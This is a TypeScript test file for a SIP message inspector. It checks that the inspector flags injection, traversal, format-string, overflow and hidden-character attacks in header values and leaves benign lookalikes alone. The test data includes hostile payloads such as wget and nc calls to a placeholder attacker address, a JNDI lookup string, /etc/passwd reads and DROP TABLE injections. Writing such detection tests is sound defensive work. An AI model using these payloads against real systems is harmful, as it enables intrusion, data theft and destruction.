import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { faults, oddities, read, request } from '../../test/messages.ts';
import type { OddityName } from './oddities.ts';

const DIGEST = 'Digest username="NAME",realm="r",nonce="n",uri="sip:r",response="0123456789abcdef0123456789abcdef"';

/** The hostile kinds that a message with that value in that header shows. */
function hostile(header: string, value: string): OddityName[] {
  return faults(read(request({ [header]: value }))).filter((name) => /injection|traversal|format|overflow|escape-line/.test(name));
}

const inUser = (user: string): OddityName[] => hostile('From', `<sip:${user}@example.org>;tag=1`);
const inName = (name: string): OddityName[] => hostile('From', `"${name}" <sip:a@example.org>;tag=1`);
const inAgent = (agent: string): OddityName[] => hostile('User-Agent', agent);
const inCredentials = (name: string): OddityName[] => hostile('Authorization', DIGEST.replace('NAME', name));

describe('text for a database', () => {
  test('in the user of a URI, plain and escaped, once and twice', () => {
    for (const user of [
      "'or'1'='1",
      "admin'--",
      "1'%20or%201=1",
      '%27%20OR%20%271%27=%271',
      '%2527%20or%201=1',
      "x'/**/or/**/1=1",
      "x')or(1=1",
    ]) {
      assert.deepEqual(inUser(user), ['sql-injection'], user);
    }
  });

  test('in a display name, credentials, a vendor header and the Call-ID', () => {
    for (const text of [
      "x' OR 1=1#",
      "'; DROP TABLE subscriber",
      "' UNION SELECT password FROM subscriber",
      "x' || 'y",
      "' having 1=1",
      "a' or 'b' like 'b",
    ]) {
      assert.deepEqual(inName(text), ['sql-injection'], text);
      assert.deepEqual(inCredentials(text), ['sql-injection'], text);
      assert.deepEqual(hostile('X-Account', text), ['sql-injection'], text);
    }
    assert.deepEqual(hostile('Call-ID', "1'||pg_sleep(5)"), ['sql-injection']);
    assert.deepEqual(hostile('Content-Type', 'multipart/mixed; boundary="----=_Part_1"'), [], 'a quote that opens a string of SIP');
    assert.deepEqual(inName("admin'#"), ['sql-injection']);
    assert.deepEqual(inName("x'; --"), ['sql-injection']);
  });

  test('not in names', () => {
    for (const text of [
      "O'Brien",
      "D'Angelo & Sons",
      "Rock 'n' Roll",
      "Joe's and Bob's",
      "Tom 'and' Jerry",
      "the boys' order",
      'select@home',
      'Union Select Committee',
      '5 - 3 -- 2',
      "l'Hôtel; Paris",
      "'",
      "it's a (nice) day",
      "x' #1 fan",
      "a'-b",
      "a'|b",
    ]) {
      const latin1 = Buffer.from(text, 'utf8').toString('latin1');
      assert.deepEqual(inName(latin1), [], text);
      assert.deepEqual(inCredentials(latin1), [], text);
    }
    for (const user of ["o'brien", 'select', 'drop', "d'arc%20jeanne", 'union', '100%25', "o'or", 'a/**', 'x/*y*z'])
      assert.deepEqual(inUser(user), [], user);
  });
});

describe('text for a shell, a path, a browser, a logger', () => {
  test('is told', () => {
    for (const text of [
      'a`id`',
      'x; wget http://192.0.2.66/a',
      'x | nc 192.0.2.66 4444',
      'x && cat /srv/a',
      '() { :;}; x',
      '$(reboot)',
      'x;sh;',
      'a|id|b',
      '$IFS;cat$IFS/a',
    ])
      assert.deepEqual(inName(text), ['shell-injection'], text);
    for (const text of ['../../../etc/asterisk', '..%2f..%2fetc', '/etc/passwd', '%2e%2e/%2e%2e/x'])
      assert.ok(inUser(text).includes('path-traversal'), text);
    for (const text of ['<script>alert(1)</script>', '<IMG SRC=x onerror=alert(1)>', 'x" onmouseover=y <', '<svg/onload=x>'])
      assert.deepEqual(inAgent(text), ['markup-injection'], text);
    for (const text of ['\x24{jndi:ldap://192.0.2.66/a}', '\x24{\x24{lower:j}ndi:x}', '\x24{ENV:HOME}']) {
      for (const header of ['User-Agent', 'X-Api-Version', 'Subject', 'Supported', 'Reason', 'Call-ID'])
        assert.deepEqual(hostile(header, text), ['lookup-injection'], header);
    }
  });

  test('not in what looks a little like it', () => {
    for (const text of [
      'Smith; Jones',
      'US$(5)'.replace('(', ' ('),
      'a | b',
      'Ping & Pong',
      'me;ping',
      'tilde ~ {brace}',
      '\x24{name}',
      'a `quoted` b',
      '<no name>',
      'x;id=5',
    ]) {
      assert.deepEqual(inName(text), [], text);
    }
    for (const agent of [
      'FPBX-2.8.1(1.8.7.0)',
      'Linksys/SPA942-6.1.5(a)',
      'Mozilla/5.0 (X11; Linux x86_64)',
      "Grandstream 'HT' 1.0",
      'a ~dfsg-2+deb9u4',
      'Yealink <T46> {x}',
    ])
      assert.deepEqual(inAgent(agent), [], agent);
    assert.deepEqual(hostile('X-Braces', '{a} | ~b'), []);
    assert.deepEqual(hostile('Subject', '/srv/../x'), []);
  });
});

describe('conversions of printf', () => {
  test('are told from escapes', () => {
    for (const text of ['%s%s%s', '%n%n', '%x.%x.%x', '%08x%08x%08x', '%1$n%2$n', '%p %p %p', '%s%n', 'a%lu%lu%hn'])
      assert.deepEqual(inAgent(text), ['format-string'], text);
    assert.deepEqual(inUser('%s%s%s%n'), ['format-string']);
    for (const text of [
      '100%',
      '%s',
      'User-Agent: %s %s',
      '%41%42%43',
      '%20some%20text%20near',
      '%d0%b0%d0%b1%d0%b2',
      '%',
      '50%n',
      '%20n%20s%20x',
    ])
      assert.deepEqual(inAgent(text), [], text);
    assert.deepEqual(inUser('%d0%b0%d0%b1%d0%b2'), [], 'Cyrillic letters');
  });
});

describe('values longer than is looked at', () => {
  test('whatever stands where the look ends', () => {
    for (const unit of ["'", "';", "'or", "'or ", '`', ';', '\x24{', '/*', '%', '%2', '%25', '%25%32', '%1\x24', "' or 1", ' ', '<']) {
      for (let pad = 1010; pad < 1030; pad++) {
        const value = `${'ab1 '.repeat(300).slice(0, pad)}${unit}${unit}tail`;
        const m = read(request({ 'X-A': value, From: `"${value.replaceAll('"', '')}" <sip:a@b>;tag=1` }));
        assert.ok(oddities(m).includes('header-long') || pad < 1024, `${unit} at ${pad}`);
      }
    }
  });

  test('one of many expressions is told', () => {
    assert.deepEqual(hostile('X-A', '\x24{jndi:x}\x24{'.repeat(900)), ['lookup-injection']);
    assert.deepEqual(hostile('X-A', '\x24{'.repeat(9)), ['lookup-injection']);
    assert.deepEqual(hostile('X-A', `a \x24{%6andi:x}`), ['lookup-injection']);
  });
});

describe('filling for a buffer', () => {
  test('in every field that may be too long', () => {
    const fill = 'A'.repeat(1100);
    for (const header of ['Call-ID', 'User-Agent', 'X-Long', 'Subject', 'Accept', 'Content-Type'])
      assert.ok(hostile(header, fill).includes('overflow-pattern'), header);
    assert.ok(inUser('%00'.repeat(400)).includes('overflow-pattern'));
    assert.ok(hostile('From', `<sip:a@b>;tag=${'x'.repeat(300)}`).includes('overflow-pattern'));
    assert.ok(hostile('Via', `SIP/2.0/UDP a;branch=z9hG4bK${'x'.repeat(300)}`).includes('overflow-pattern'));
  });

  test('not in what is long for a reason', () => {
    const token = Buffer.from(Array.from({ length: 1500 }, (_, i) => (i * 7919) % 251)).toString('base64');
    assert.deepEqual(hostile('X-Token', token), []);
    assert.deepEqual(oddities(read(request({ 'X-Token': token }))), ['header-long']);
    assert.deepEqual(hostile('Allow', 'INVITE, ACK, BYE, CANCEL, '.repeat(60)), []);
  });

  test('a short run is only a name', () => {
    assert.deepEqual(inUser('a'.repeat(120)), []);
  });
});

describe('control characters and marks', () => {
  test('escaped in a user', () => {
    assert.deepEqual(faults(read(request({ To: '<sip:a%0D%0Ab@c>' }))), ['escape-line-end']);
    assert.deepEqual(faults(read(request({ To: '<sip:a%08%1F@c>' }))), ['escape-control']);
    assert.deepEqual(faults(read(request({ To: '<sip:a%20%41%7e@c>' }))), []);
    assert.deepEqual(faults(read(request({ To: '<sip:a%1@c>' }))), ['escape-bad']);
  });

  test('that turn or hide text; not those that scripts and emoji need', () => {
    const name = (text: string): OddityName[] => oddities(read(request({ Subject: Buffer.from(text, 'utf8').toString('latin1') })));
    for (const mark of ['\u202a', '\u202e', '\u2066', '\u2069']) assert.deepEqual(name(`a${mark}b`), ['bidi-control']);
    for (const mark of ['\u200b', '\u2060', '\ufeff']) assert.deepEqual(name(`a${mark}b`), ['invisible-character']);
    assert.deepEqual(name('\u05d0\u200f \u200dx \u200c \u2029 \u2065 \u20ac \ufefe'), []);
  });
});
